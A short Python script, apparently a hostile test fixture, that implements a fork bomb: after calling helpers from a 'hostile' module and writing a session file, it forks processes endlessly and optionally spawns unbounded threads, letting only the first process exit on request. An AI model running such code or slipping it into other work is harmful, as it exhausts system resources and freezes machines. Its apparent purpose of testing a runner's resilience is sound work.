"""A fork bomb: every process forks whenever it can, and none ends, but the first
one, when it is told to."""
import os
import sys
import threading

from hostile import ARGS, HOME, ask, report, tried

ask()
with open(HOME + "/session.jsonl", "w") as f:
    f.write('{"type": "last words"}\n')
tried()
report()
first = os.getpid()


def thread():
    while True:
        try:
            threading.Thread(target=thread, daemon=True).start()
        except RuntimeError:
            pass


if "threads" in ARGS:
    thread()
while True:
    try:
        child = os.fork()
    except OSError:
        if "leave" in ARGS and os.getpid() == first:
            os._exit(3)
